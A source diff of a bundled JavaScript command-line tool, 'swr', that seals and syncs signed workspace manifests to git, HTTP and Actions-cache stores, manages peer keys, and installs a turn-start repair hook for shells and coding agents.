+ * `swr push` / `swr pull` / `swr sync status`: carry the signed manifest (with its tree indexes)
+ * off the machine, to git remotes, HTTP stores and the Actions cache (core/sync/), so a machine
+ * whose workspace and home were wiped can recover the recipe book first, from one recovery code.
+ * A copy is sealed (HPKE with X-Wing) to this machine's sync key and any named peers; one in clear
+ * needs --plaintext-ok, has its tokens redacted and never carries escrow. A pulled manifest is
+ * verified through the gate before it is written, and never over an existing file.
+ */
+
+
+
+
+
+
+
+
+const sync_DEFAULT_TIMEOUT_S = 120;
 function scopeOf(file, io) {
     return io.env.GITHUB_REPOSITORY
         ? `repo:${io.env.GITHUB_REPOSITORY}:${external_node_path_default().basename(external_node_path_default().dirname(file))}/${external_node_path_default().basename(file)}`
         : `file:${external_node_path_default().resolve(file)}`;
 }
-function sync_client(io) {
-    if (!cacheServiceAvailable(io.env)) {
-        throw new SwrError('push and pull need the Actions cache service (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN)', EXIT.UNREPAIRABLE);
-    }
-    return actionsCacheClient({
+/** The copy's default name: the workspace folder's name, which a fresh box recreates alike. */
+function defaultName(manifestFile) {
+    const base = external_node_path_default().basename(external_node_path_default().dirname(external_node_path_default().dirname(external_node_path_default().resolve(manifestFile))))
+        .replace(/[^A-Za-z0-9._-]+/g, '-')
+        .replace(/^[^A-Za-z0-9]+/, '')
+        .replace(/\.\.+/g, '.')
+        .slice(0, 64);
+    return base && !base.endsWith('.lock') ? base : 'manifest';
+}
+function storeContext(flags, io, manifestFile, keyTail = 'latest') {
+    const deadlineMs = (flags.timeout ?? sync_DEFAULT_TIMEOUT_S) * 1000;
+    if (flags.authEnv !== undefined && !/^[A-Za-z_][A-Za-z0-9_]{0,127}$/.test(flags.authEnv))
+        throw new UsageError('--auth-env takes the name of an environment variable');
+    return {
+        cwd: io.cwd,
         env: io.env,
-        logToStderr: true,
-        onNote: line => void io.stderr.write(`swr: ${line}\n`)
-    });
+        tmpDir: external_node_os_default().tmpdir(),
+        deadlineMs,
+        requestMs: Math.max(1000, Math.min(30_000, Math.floor(deadlineMs / 3))),
+        authEnv: flags.authEnv,
+        note: line => void io.stderr.write(`swr: ${escapeText(line, { max: 400 })}\n`),
+        actions: ctx => actionsCacheStore(ctx, syncKeyPrefix(scopeOf(manifestFile, io)), keyTail)
+    };
+}
+function fromEnvList(v) {
+    const list = v?.split(/\s+/).filter(Boolean);
+    return list && list.length > 0 ? list : undefined;
+}
+function message(err) {
+    return err instanceof Error ? err.message : String(err);
 }
 async function pushCommand(flags, io) {
     const file = manifestLocation(flags, io).file;
     const m = loadManifest(file, { workspace: flags.workspace, cwd: io.cwd });
     if (m.format !== 3)
         throw new UsageError(`${m.file} is a format-2 manifest: import it first`);
+    const name = checkName(flags.name ?? defaultName(m.file));
+    const stores = flags.to ?? fromEnvList(io.env.SWR_SYNC_TO) ?? ['actions'];
     const trees = {};
     for (const e of m.body.entries) {
         if (e.kind !== 'tree' || !e.expect.index)
@@ -26665,122 +28380,510 @@ async function pushCommand(flags, io) {
             trees[e.id] = external_node_fs_default().readFileSync(p).toString('base64');
     }
     const seed = loadSyncSeed(stateDir(io), io.env.SWR_SYNC_KEY);
-    const escrow = m.body.entries.some(e => e.kind === 'file' && e.escrow);
-    if (escrow && !seed) {
-        throw new SwrError('this manifest carries escrowed bytes and is never sent in clear: create a sync key with "swr keygen" (or set SWR_SYNC_KEY)', EXIT.UNREPAIRABLE);
+    const peers = (flags.toPeer ?? []).map(n => findPeer(stateDir(io), n));
+    const recipients = [...(seed ? [await syncPublicKey(seed)] : []), ...peers.map(p => p.key)];
+    const recipientNames = [...(seed ? ['this machine'] : []), ...peers.map(p => p.name)];
+    const text = external_node_fs_default().readFileSync(m.file, 'utf8');
+    let packed;
+    let redactedVars = [];
+    if (recipients.length > 0) {
+        packed = await packSealed({ manifest: text, trees }, recipients);
     }
-    const packed = await packBundle({ manifest: external_node_fs_default().readFileSync(m.file, 'utf8'), trees }, seed);
-    const dir = syncDir();
-    external_node_fs_default().rmSync(dir, { recursive: true, force: true });
-    external_node_fs_default().mkdirSync(dir, { mode: 0o700 });
-    writeFileAtomic(external_node_path_default().join(dir, 'bundle.json'), packed, { mode: 0o600 });
-    const key = `${syncKeyPrefix(scopeOf(m.file, io))}v${m.body.version}-${m.digest.slice(0, 16)}`;
-    try {
-        const saved = await sync_client(io).save(dir, key);
-        if (saved === 'failed')
-            throw new SwrError(`push: the cache did not take ${key}`, EXIT.UNREPAIRABLE);
-        const how = seed ? 'sealed with HPKE (X-Wing)' : 'unsealed (no escrowed bytes)';
-        if (flags.json)
-            io.stdout.write(JSON.stringify({
-                schema: 'swr.push/1',
-                key,
-                digest: m.digest,
-                version: m.body.version,
-                sealed: Boolean(seed),
-                saved
-            }) + '\n');
-        else
-            io.stdout.write(`pushed ${m.file} (version ${m.body.version}, digest ${m.digest.slice(0, 16)}) as ${key}, ${how}${saved === 'exists' ? '; already there' : ''}\n`);
+    else {
+        if (m.body.entries.some(e => e.kind === 'file' && e.escrow))
+            throw new SwrError('this manifest carries escrowed bytes and is never sent in clear: create a sync key with "swr keygen" (or set SWR_SYNC_KEY), or name a peer with --to-peer', errors_EXIT.UNREPAIRABLE);
+        if (!flags.plaintextOk)
+            throw new SwrError('push seals every copy and there is no key to seal it to: create a sync key with "swr keygen" (or set SWR_SYNC_KEY), name a peer with --to-peer, or pass --plaintext-ok to publish it in clear (tokens redacted)', errors_EXIT.UNREPAIRABLE);
+        for (const [id, b64] of Object.entries(trees))
+            if (hasTokenShape(Buffer.from(b64, 'base64').toString('latin1')))
+                throw new SwrError(`the index of tree "${id}" holds a token-shaped name: it is never sent in clear`, errors_EXIT.UNREPAIRABLE);
+        const r = redact(text);
+        redactedVars = r.variables;
+        for (const v of r.variables)
+            io.stderr.write(`swr: redacted ${r.previews[v]} -> \${${v}} (pull --expand fills it)\n`);
+        packed = packPlain({
+            manifest: r.text,
+            trees,
+            ...(r.variables.length ? { redacted: r.variables } : {})
+        });
     }
-    finally {
-        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
+    const sha256 = sha256Hex(packed);
+    const ctx = storeContext(flags, io, m.file, `v${m.body.version}-${m.digest.slice(0, 16)}`);
+    const results = [];
+    const records = [];
+    for (const spec of stores) {
+        try {
+            const store = openStore(spec, ctx);
+            const locator = await store.put(packed, { name, sha256 });
+            // The copy counts once it reads back exactly as sent.
+            const back = await store.get(locator);
+            if (sha256Hex(back.bytes) !== sha256)
+                throw new SwrError(`${spec}: the stored copy reads back different bytes`, errors_EXIT.UNREPAIRABLE);
+            const code = makeCode(locator, sha256);
+            results.push({ store: spec, ok: true, locator, code });
+            records.push({
+                store: spec,
+                locator,
+                sha256,
+                bytes: packed.length,
+                pushed_at: new Date().toISOString(),
+                code,
+                sealed: recipients.length > 0
+            });
+        }
+        catch (err) {
+            if (err instanceof UsageError)
+                throw err;
+            results.push({ store: spec, ok: false, error: message(err) });
+        }
     }
-    return EXIT.HEALTHY;
+    if (records.length > 0)
+        recordReplicas(stateDir(io), m.file, records);
+    const code = records[0]?.code;
+    if (flags.json) {
+        io.stdout.write(JSON.stringify({
+            schema: 'swr.push/2',
+            manifest: m.file,
+            digest: m.digest,
+            version: m.body.version,
+            name,
+            sealed: recipients.length > 0,
+            recipients: recipientNames,
+            redacted: redactedVars,
+            sha256,
+            bytes: packed.length,
+            replicas: results,
+            code: code ?? null
+        }) + '\n');
+    }
+    else {
+        const how = recipients.length > 0
+            ? `sealed with HPKE (X-Wing) to ${recipientNames.join(', ')}`
+            : `in clear${redactedVars.length ? `, ${redactedVars.length} token${redactedVars.length > 1 ? 's' : ''} redacted` : ''}`;
+        io.stdout.write(`pushed ${m.file} (version ${m.body.version}, digest ${m.digest.slice(0, 16)}), ${how}, sha256 ${sha256.slice(0, 16)}\n`);
+        for (const r of results)
+            io.stdout.write(r.ok
+                ? `  ok      ${escapeText(r.locator ?? '', { max: 300 })}\n`
+                : `  FAILED  ${escapeText(r.error ?? '', { max: 400 })}\n`);
+        if (code)
+            io.stdout.write(`recovery code: ${escapeText(code, { max: 2100 })}\n`);
+    }
+    return results.every(r => r.ok) ? errors_EXIT.HEALTHY : errors_EXIT.UNREPAIRABLE;
+}
+function sources(flags, io, ctx, target) {
+    if (flags.code !== undefined) {
+        if (flags.from)
+            throw new UsageError('--code names its store: leave out --from');
+        const code = parseCode(flags.code);
+        return [{ locator: code.locator, check: sha => pinMatches(code, sha) }];
+    }
+    if (flags.sha256 !== undefined && !/^[0-9a-f]{64}$/i.test(flags.sha256))
+        throw new UsageError('--sha256 takes 64 hex digits');
+    const pin = flags.sha256?.toLowerCase();
+    const name = checkName(flags.name ?? defaultName(target));
+    const stores = flags.from ??
+        fromEnvList(io.env.SWR_SYNC_FROM) ??
+        fromEnvList(io.env.SWR_SYNC_TO) ?? ['actions'];
+    return stores.map(spec => ({
+        locator: openStore(spec, ctx).locate(name),
+        check: pin ? sha => sha === pin : undefined
+    }));
+}
+/** The first copy any source yields; a copy that fails its pin is refused outright. */
+async function fetchFirst(list, ctx) {
+    const misses = [];
+    for (const s of list) {
+        let bytes;
+        try {
+            bytes = (await storeOfLocator(s.locator, ctx).get(s.locator)).bytes;
+        }
+        catch (err) {
+            if (err instanceof UsageError)
+                throw err;
+            misses.push(message(err));
+            continue;
+        }
+        const sha = sha256Hex(bytes);
+        if (s.check && !s.check(sha))
+            throw new SwrError(`pulled bundle refused: ${s.locator} holds bytes whose sha256 (${sha.slice(0, 16)}…) is not the pinned one`, errors_EXIT.UNREPAIRABLE);
+        return { bytes, locator: s.locator };
+    }
+    throw new SwrError(`pull: no store gave a copy: ${misses.join('; ')}`, errors_EXIT.UNREPAIRABLE);
 }
 async function pullCommand(flags, io) {
     const target = manifestLocation(flags, io).file;
-    if (external_node_fs_default().existsSync(target))
+    if (external_node_fs_default().existsSync(target)) {
+        if (flags.ifMissing)
+            return errors_EXIT.HEALTHY;
         throw new UsageError(`${target} already exists: pull never overwrites a manifest (pass -m NEW.json)`);
-    // The newest push is wanted, so the key is a prefix; the archive is unpacked into a private
-    // scratch directory (never into syncDir, which anyone on the machine could have planted).
-    const prefix = syncKeyPrefix(scopeOf(target, io));
-    const hit = await sync_client(io).find(syncDir(), prefix, [prefix]);
-    if (!hit)
-        throw new SwrError(`pull: no pushed manifest in the cache for ${target}`, EXIT.UNREPAIRABLE);
-    let copy;
+    }
+    const ctx = storeContext(flags, io, target);
+    const got = await fetchFirst(sources(flags, io, ctx, target), ctx);
+    const opened = await unpackBundle(got.bytes, loadSyncSeed(stateDir(io), io.env.SWR_SYNC_KEY), {
+        allowPlain: Boolean(flags.plaintextOk || flags.expand)
+    });
+    const bundle = opened.bundle;
+    let text = bundle.manifest;
+    if (bundle.redacted && bundle.redacted.length > 0) {
+        if (!flags.expand)
+            throw new SwrError(`pulled bundle refused: it was redacted (${bundle.redacted.join(', ')}): pass --expand with those variables set`, errors_EXIT.UNREPAIRABLE);
+        text = redact_expand(text, bundle.redacted, io.env);
+    }
+    // Verify exactly what will be written, as if it were already in place.
+    const parsed = parseManifestText(text, 'pulled manifest');
+    if (parsed.format !== 3)
+        throw new SwrError('pulled bundle refused: not a format-3 manifest', errors_EXIT.UNREPAIRABLE);
+    const m = {
+        file: target,
+        format: 3,
+        doc: parsed.doc,
+        body: parsed.doc.body,
+        digest: manifestDigest(parsed.doc.body),
+        workspace: resolveWorkspace(target, parsed.doc.body.workspace, {
+            workspace: flags.workspace,
+            cwd: io.cwd
+        }),
+        lines: parsed.lines,
+        notes: parsed.notes
+    };
+    const gate = await decide(gateInput(m), buildPolicy(m, flags, io));
+    if (!gate.allowed)
+        throw new SwrError(`pulled manifest refused: ${gate.reason}`, errors_EXIT.UNREPAIRABLE);
+    const sidecars = new Map();
+    for (const e of m.body.entries) {
+        if (e.kind !== 'tree' || !e.expect.index)
+            continue;
+        const bytes = Buffer.from(bundle.trees[e.id] ?? '', 'base64');
+        if (sha256Hex(bytes) !== e.expect.index.sha256)
+            throw new SwrError(`pulled bundle refused: the index of tree "${e.id}" does not match the signed manifest`, errors_EXIT.UNREPAIRABLE);
+        const p = indexPath(target, e.id);
+        // An index already there is kept when it is this one, and never replaced when it is not.
+        if (external_node_fs_default().existsSync(p)) {
+            if (external_node_fs_default().readFileSync(p).equals(bytes))
+                continue;
+            throw new UsageError(`${p} already exists with other bytes: pull never overwrites it`);
+        }
+        sidecars.set(p, bytes);
+    }
+    external_node_fs_default().mkdirSync(external_node_path_default().dirname(target), { recursive: true });
+    for (const [p, bytes] of sidecars) {
+        external_node_fs_default().mkdirSync(external_node_path_default().dirname(p), { recursive: true });
+        writeFileAtomic(p, bytes, { exclusive: true });
+    }
+    writeFileAtomic(target, text, { exclusive: true });
+    if (flags.json)
+        io.stdout.write(JSON.stringify({
+            schema: 'swr.pull/2',
+            manifest: target,
+            locator: got.locator,
+            sha256: sha256Hex(got.bytes),
+            sealed: opened.sealed,
+            expanded: bundle.redacted ?? [],
+            digest: m.digest,
+            version: m.body.version,
+            reason: gate.reason
+        }) + '\n');
+    else if (!flags.quiet)
+        io.stdout.write(`pulled ${target} (version ${m.body.version}, digest ${m.digest.slice(0, 16)}) from ${escapeText(got.locator, { max: 300 })}; ${gate.reason}\n`);
+    return errors_EXIT.HEALTHY;
+}
+async function statusCommand(flags, io) {
+    const file = manifestLocation(flags, io).file;
+    const replicas = replicasOf(stateDir(io), file);
+    const ctx = storeContext(flags, io, file);
+    const rows = [];
+    for (const r of replicas) {
+        const row = {
+            store: r.store,
+            locator: r.locator,
+            reachable: false,
+            health: 'unreachable',
+            sha256: r.sha256,
+            pushed_at: r.pushed_at,
+            age_s: null
+        };
+        try {
+            const store = storeOfLocator(r.locator, ctx);
+            const st = await store.stat(r.locator);
+            const got = await store.get(r.locator);
+            row.reachable = true;
+            row.health = sha256Hex(got.bytes) === r.sha256 ? 'ok' : 'mismatch';
+            const at = got.storedAt ?? st.storedAt ?? new Date(r.pushed_at);
+            row.age_s = Number.isFinite(at.getTime())
+                ? Math.max(0, Math.round((Date.now() - at.getTime()) / 1000))
+                : null;
+        }
+        catch (err) {
+            row.detail = message(err);
+        }
+        rows.push(row);
+    }
+    const healthy = rows.length > 0 && rows.every(r => r.health === 'ok');
+    if (flags.json)
+        io.stdout.write(JSON.stringify({ schema: 'swr.sync-status/1', manifest: file, healthy, replicas: rows }) +
+            '\n');
+    else if (rows.length === 0)
+        io.stdout.write(`no copy of ${file} was pushed from this machine (swr push --to STORE)\n`);
+    else if (!(flags.quiet && healthy))
+        for (const r of rows)
+            io.stdout.write(`${r.health.padEnd(11)} ${escapeText(r.locator, { max: 300 })}${r.age_s !== null ? `  age ${ageText(r.age_s)}` : ''}${r.detail ? `  ${escapeText(r.detail, { max: 300 })}` : ''}\n`);
+    return healthy ? errors_EXIT.HEALTHY : errors_EXIT.DAMAGED;
+}
+function ageText(s) {
+    if (s < 120)
+        return `${s} s`;
+    if (s < 7200)
+        return `${Math.round(s / 60)} min`;
+    if (s < 172800)
+        return `${Math.round(s / 3600)} h`;
+    return `${Math.round(s / 86400)} d`;
+}
+function storeOptions(cmd) {
+    return cmd
+        .option('--name <name>', "the copy's name in git and URL stores (default: the workspace folder's name)")
+        .option('--auth-env <var>', 'send the value of this environment variable as the Authorization header to http(s) stores')
+        .option('--timeout <s>', `time limit per store, retries included (default ${sync_DEFAULT_TIMEOUT_S})`, intOption('--timeout', 1, 3600));
+}
+function registerSync(program, { io, run }) {
+    storeOptions(withGlobals(program.command('push')))
+        .description('store the manifest and its tree indexes off the machine (git:REMOTE, http(s) URL templates, the Actions cache), sealed with HPKE/X-Wing; each copy is read back and checked, and a recovery code is printed')
+        .option('--to <store>', 'where to store a copy (repeatable): git:REMOTE, https://host/path/{name}, actions (default: $SWR_SYNC_TO, else actions)', collect)
+        .option('--to-peer <name>', 'also seal to this peer (repeatable; see "swr peer")', collect)
+        .option('--plaintext-ok', 'with no sync key and no peer, publish in clear: token shapes become ${VAR} references; never with escrow')
+        .action((flags) => run(() => pushCommand(flags, io)));
+    trustOptions(storeOptions(withGlobals(program.command('pull'))))
+        .description('restore a pushed manifest and its tree indexes, verified (pin, seal, signatures) before anything is written, never over an existing file')
+        .option('--code <code>', 'the recovery code "swr push" printed (swr1:…)')
+        .option('--from <store>', 'stores to try in order (repeatable; default: $SWR_SYNC_FROM, else $SWR_SYNC_TO, else actions)', collect)
+        .option('--sha256 <hex>', 'with --from: the copy must have this sha256')
+        .option('--expand', 'fill the ${VAR} references of a redacted copy from the environment')
+        .option('--plaintext-ok', 'accept a copy stored in clear')
+        .option('--if-missing', 'do nothing (exit 0) when the manifest already exists')
+        .action((flags) => run(() => withManifestLock(flags, io, () => pullCommand(flags, io))));
+    const sync = program.command('sync').description('the copies "swr push" stored');
+    storeOptions(withGlobals(sync.command('status')))
+        .description("each recorded copy's reachability, hash health and age (exit 0 when every copy reads back intact)")
+        .action((flags) => run(() => statusCommand(flags, io)));
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/peer.ts
+
+
+function print(io, flags, json, text) {
+    io.stdout.write(flags.json ? JSON.stringify(json) + '\n' : text);
+    return errors_EXIT.HEALTHY;
+}
+function add(name, key, flags, io) {
+    const { peer: p, added } = addPeer(stateDir(io), name, key);
+    return print(io, flags, { schema: 'swr.peer/1', name: p.name, fingerprint: p.fingerprint, added }, `${added ? 'added' : 'already known:'} peer ${p.name} (fingerprint ${p.fingerprint}); compare it with theirs out of band\n`);
+}
+function list(flags, io) {
+    const peers = loadPeers(stateDir(io));
+    return print(io, flags, {
+        schema: 'swr.peers/1',
+        peers: peers.map(p => ({ name: p.name, fingerprint: p.fingerprint }))
+    }, peers.length ? peers.map(p => `${p.fingerprint}  ${p.name}\n`).join('') : 'no peers\n');
+}
+function remove(name, flags, io) {
+    const p = removePeer(stateDir(io), name);
+    return print(io, flags, { schema: 'swr.peer/1', name: p.name, removed: true }, `removed peer ${p.name}\n`);
+}
+async function mine(flags, io) {
+    const seed = loadSyncSeed(stateDir(io), io.env.SWR_SYNC_KEY);
+    if (!seed)
+        throw new SwrError('no sync key: create one with "swr keygen" (or set SWR_SYNC_KEY)', errors_EXIT.UNREPAIRABLE);
+    const pub = await syncPublicKey(seed);
+    const key = pub.toString('base64');
+    return print(io, flags, { schema: 'swr.peer-key/1', key, fingerprint: recipientId(pub) }, `fingerprint ${recipientId(pub)}\n${key}\n`);
+}
+function registerPeer(program, { io, run }) {
+    const peer = program
+        .command('peer')
+        .description('the machines "swr push --to-peer" seals copies to (their sync public keys)');
+    withGlobals(peer.command('add'))
+        .description('add a peer under a name (never replaces another key under that name)')
+        .argument('<name>', 'letters, digits, ".", "_" or "-"')
+        .argument('<pubkey>', 'the peer\'s "swr peer mine" key (base64; spaces allowed)')
+        .action((name, key, flags) => run(() => add(name, key, flags, io)));
+    withGlobals(peer.command('list'))
+        .description('list peers and their fingerprints')
+        .action((flags) => run(() => list(flags, io)));
+    withGlobals(peer.command('remove'))
+        .description('forget a peer')
+        .argument('<name>')
+        .action((name, flags) => run(() => remove(name, flags, io)));
+    withGlobals(peer.command('mine'))
+        .description("print this machine's sync public key (give it to peers) and its fingerprint")
+        .action((flags) => run(() => mine(flags, io)));
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/hook.ts
+/**
+ * `swr hook print|install [bash|claude-code|codex]`: a turn-start snippet that heals the workspace
+ * before an agent's turn: `swr pull --if-missing` (the manifest first, when a wipe took it), then
+ * `swr doctor --quiet`. It never holds up the turn: one run at a time (flock; an overlapping turn
+ * skips), a hard time limit (timeout), output to a private log, and exit 0 whatever happens. When
+ * the workspace stays damaged it prints one line, which an agent sees.
+ *
+ * `install` writes the script and the target's file only where no file is; an existing file is
+ * never changed: the command refuses and prints what to add.
+ */
+
+
+
+
+const HOOK_TARGETS = ['bash', 'claude-code', 'codex'];
+const DEFAULT_LIMIT_S = 60;
+function turnStartScript() {
+    return `#!/bin/sh
+# swr turn start: pull the manifest when a wipe took it, then heal the workspace.
+# One run at a time (an overlapping turn skips), at most SWR_HOOK_TIMEOUT seconds
+# (default ${DEFAULT_LIMIT_S}), output to a private log; always exits 0.
+d="\${XDG_RUNTIME_DIR:-\${TMPDIR:-/tmp}}/swr-hook-$(id -u)"
+mkdir -p -m 700 "$d" 2>/dev/null
+{ [ -d "$d" ] && [ ! -L "$d" ] && [ -O "$d" ]; } || exit 0
+command -v flock >/dev/null 2>&1 && command -v timeout >/dev/null 2>&1 || exit 0
+(
+  umask 077
+  exec 9>>"$d/lock"
+  flock -n 9 || exit 0
+  timeout -k 5 "\${SWR_HOOK_TIMEOUT:-${DEFAULT_LIMIT_S}}" sh -c '
+    swr pull --if-missing --quiet \${SWR_SYNC_CODE:+--code "$SWR_SYNC_CODE"}
+    swr doctor --quiet
+  ' >"$d/last.log" 2>&1 9>&- ||
+    echo "swr: the workspace is not healthy after the turn-start repair; see $d/last.log"
+)
+exit 0
+`;
+}
+function scriptPath(io) {
+    const config = io.env.XDG_CONFIG_HOME || external_node_path_default().join(io.home, '.config');
+    return external_node_path_default().join(external_node_path_default().resolve(config), 'swr', 'turn-start.sh');
+}
+function runLine(io) {
+    return `sh ${JSON.stringify(scriptPath(io))}`;
+}
+function targetFile(target, io) {
+    const line = runLine(io);
+    switch (target) {
+        case 'bash': {
+            const addition = `# swr: heal the workspace at shell start\n[ -r ${JSON.stringify(scriptPath(io))} ] && ${line}\n`;
+            return {
+                file: external_node_path_default().join(io.home, '.bashrc'),
+                content: addition,
+                addition,
+                present: t => t.includes(scriptPath(io))
+            };
+        }
+        case 'claude-code': {
+            const hook = {
+                hooks: {
+                    UserPromptSubmit: [
+                        { hooks: [{ type: 'command', command: line, timeout: DEFAULT_LIMIT_S + 30 }] }
+                    ]
+                }
+            };
+            const text = JSON.stringify(hook, null, 2) + '\n';
+            return {
+                file: external_node_path_default().join(io.cwd, '.claude', 'settings.json'),
+                content: text,
+                addition: text,
+                present: t => t.includes(scriptPath(io))
+            };
+        }
+        case 'codex': {
+            const addition = `## Workspace health\n\nAt the start of every turn, run \`${line}\` before anything else: it restores the\nworkspace (swr doctor) and prints one line only when something stayed broken.\n`;
+            return {
+                file: external_node_path_default().join(io.cwd, 'AGENTS.md'),
+                content: addition,
+                addition,
+                present: t => t.includes(scriptPath(io))
+            };
+        }
+    }
+}
+function parseTarget(t) {
+    const target = (t ?? 'bash');
+    if (!HOOK_TARGETS.includes(target))
+        throw new UsageError(`unknown hook target "${t}": use ${HOOK_TARGETS.join(', ')}`);
+    return target;
+}
+/** Create `file` with `content`; 'same' when it already holds exactly that, 'other' when not. */
+function createOnce(file, content, mode) {
+    external_node_fs_default().mkdirSync(external_node_path_default().dirname(file), { recursive: true });
     try {
-        copy = await scratch_copy_scratchCopy(hit, io.env.RUNNER_TEMP || external_node_os_default().tmpdir(), {
-            maxMembers: 4,
-            maxBytes: MAX_BUNDLE_BYTES
-        });
+        writeFileAtomic(file, content, { exclusive: true, mode });
+        return 'created';
     }
     catch (err) {
-        throw new SwrError(`pulled bundle refused: ${hit.matchedKey}: ${err instanceof Error ? err.message : String(err)}`, EXIT.UNREPAIRABLE);
+        if (errnoCode(err) !== 'EEXIST')
+            throw err;
     }
+    const st = external_node_fs_default().lstatSync(file);
+    if (!st.isFile())
+        return 'other';
+    return external_node_fs_default().readFileSync(file, 'utf8') === content ? 'same' : 'other';
+}
+function hookPrint(t, io) {
+    const target = parseTarget(t);
+    if (target === 'bash')
+        io.stdout.write(turnStartScript());
+    else
+        io.stdout.write(targetFile(target, io).addition);
+    return errors_EXIT.HEALTHY;
+}
+function hookInstall(t, flags, io) {
+    const target = parseTarget(t);
+    const script = scriptPath(io);
+    const s = createOnce(script, turnStartScript(), 0o755);
+    if (s === 'other')
+        throw new SwrError(`${script} already exists with other content: it is left as it is (compare it with "swr hook print bash")`, errors_EXIT.UNREPAIRABLE);
+    const tf = targetFile(target, io);
+    let state;
+    let text;
     try {
-        const file = external_node_path_default().join(copy.root, 'bundle.json');
-        if (!external_node_fs_default().existsSync(file))
-            throw new SwrError(`pulled bundle refused: ${hit.matchedKey} holds no bundle.json`, EXIT.UNREPAIRABLE);
-        const bundle = await unpackBundle(external_node_fs_default().readFileSync(file), loadSyncSeed(stateDir(io), io.env.SWR_SYNC_KEY));
-        // Verify exactly what will be written, as if it were already in place.
-        const parsed = parseManifestText(bundle.manifest, 'pulled manifest');
-        if (parsed.format !== 3)
-            throw new SwrError('pulled bundle refused: not a format-3 manifest', EXIT.UNREPAIRABLE);
-        const m = {
-            file: target,
-            format: 3,
-            doc: parsed.doc,
-            body: parsed.doc.body,
-            digest: manifestDigest(parsed.doc.body),
-            workspace: resolveWorkspace(target, parsed.doc.body.workspace, {
-                workspace: flags.workspace,
-                cwd: io.cwd
-            }),
-            lines: parsed.lines,
-            notes: parsed.notes
-        };
-        const gate = await decide(gateInput(m), buildPolicy(m, flags, io));
-        if (!gate.allowed)
-            throw new SwrError(`pulled manifest refused: ${gate.reason}`, EXIT.UNREPAIRABLE);
-        const sidecars = new Map();
-        for (const e of m.body.entries) {
-            if (e.kind !== 'tree' || !e.expect.index)
-                continue;
-            const bytes = Buffer.from(bundle.trees[e.id] ?? '', 'base64');
-            if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== e.expect.index.sha256) {
-                throw new SwrError(`pulled bundle refused: the index of tree "${e.id}" does not match the signed manifest`, EXIT.UNREPAIRABLE);
-            }
-            sidecars.set(indexPath(target, e.id), bytes);
-        }
-        external_node_fs_default().mkdirSync(external_node_path_default().dirname(target), { recursive: true });
-        for (const [p, bytes] of sidecars) {
-            external_node_fs_default().mkdirSync(external_node_path_default().dirname(p), { recursive: true });
-            writeFileAtomic(p, bytes);
-        }
-        writeFileAtomic(target, bundle.manifest, { exclusive: true });
-        if (flags.json)
-            io.stdout.write(JSON.stringify({
-                schema: 'swr.pull/1',
-                manifest: target,
-                key: hit.matchedKey,
-                digest: m.digest,
-                version: m.body.version,
-                reason: gate.reason
-            }) + '\n');
-        else
-            io.stdout.write(`pulled ${target} (version ${m.body.version}, digest ${m.digest.slice(0, 16)}) from ${hit.matchedKey}; ${gate.reason}\n`);
-        return EXIT.HEALTHY;
+        text = external_node_fs_default().readFileSync(tf.file, 'utf8');
     }
-    finally {
-        copy.dispose();
+    catch (err) {
+        if (errnoCode(err) !== 'ENOENT')
+            throw err;
     }
+    if (text === undefined)
+        state = createOnce(tf.file, tf.content, 0o644) === 'created' ? 'created' : 'refused';
+    else
+        state = tf.present(text) ? 'present' : 'refused';
+    if (flags.json)
+        io.stdout.write(JSON.stringify({
+            schema: 'swr.hook/1',
+            target,
+            script,
+            file: tf.file,
+            state,
+            addition: tf.addition
+        }) + '\n');
+    else if (state === 'refused')
+        io.stderr.write(`swr: ${tf.file} exists and is left as it is; add this to it:\n\n${tf.addition}\n`);
+    else
+        io.stdout.write(`${s === 'created' ? 'wrote' : 'kept'} ${script}; ${state === 'created' ? 'wrote' : 'already set up:'} ${tf.file}\n`);
+    return state === 'refused' ? errors_EXIT.UNREPAIRABLE : errors_EXIT.HEALTHY;
+}
+function registerHook(program, { io, run }) {
+    const hook = program
+        .command('hook')
+        .description('a turn-start snippet: pull the manifest if a wipe took it, then "swr doctor", one run at a time and time-limited');
+    hook
+        .command('print')
+        .description('print the snippet (bash: the script; claude-code: the settings.json hook; codex: the AGENTS.md lines)')
+        .argument('[target]', HOOK_TARGETS.join(' | '))
+        .action((t) => run(() => hookPrint(t, io)));
+    withGlobals(hook.command('install'))
+        .description('write the script to $XDG_CONFIG_HOME/swr/turn-start.sh and wire it in (~/.bashrc, .claude/settings.json or AGENTS.md) only where no file is; otherwise print what to add (exit 2)')
+        .argument('[target]', HOOK_TARGETS.join(' | '))
+        .action((t, flags) => run(() => hookInstall(t, flags, io)));
 }
 
 ;// CONCATENATED MODULE: ./src/cli/commands/trust.ts
 /** `swr trust add|list|remove|mine`: the local trust store of ML-DSA signers. */
-
-
-
 
 
 
@@ -26791,7 +28894,7 @@ function trustAdd(fp, name, flags, io) {
         io.stdout.write(JSON.stringify({ schema: 'swr.trust/1', added: s }) + '\n');
     else
         io.stdout.write(`trusted ${s.name}: ${groupFingerprint(s.fingerprint)}\n`);
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
 }
 function trustList(flags, io) {
     const signers = readTrustStore(stateDir(io));
@@ -26802,7 +28905,7 @@ function trustList(flags, io) {
     else
         for (const s of signers)
             io.stdout.write(`${s.name.padEnd(20)} ${groupFingerprint(s.fingerprint)}  (added ${s.added})\n`);
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
 }
 function trustRemove(what, flags, io) {
     const removed = removeTrusted(stateDir(io), what);
@@ -26811,22 +28914,42 @@ function trustRemove(what, flags, io) {
     else
         for (const s of removed)
             io.stdout.write(`removed ${s.name}: ${groupFingerprint(s.fingerprint)}\n`);
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
 }
 function trustMine(flags, io) {
     let text;
     try {
-        text = external_node_fs_default().readFileSync(keyPath(stateDir(io), OWN_PUBLIC_KEY_FILE), 'utf8');
+        text = external_node_fs_default().readFileSync(keys_keyPath(stateDir(io), OWN_PUBLIC_KEY_FILE), 'utf8');
     }
     catch {
-        throw new SwrError('this machine has no ML-DSA identity: run "swr keygen"', EXIT.BAD_MANIFEST);
+        throw new SwrError('this machine has no ML-DSA identity: run "swr keygen"', errors_EXIT.BAD_MANIFEST);
     }
     const [fp = '', pub = ''] = text.split('\n');
     if (flags.json)
         io.stdout.write(JSON.stringify({ schema: 'swr.trust/1', fingerprint: fp, public_key: pub }) + '\n');
     else
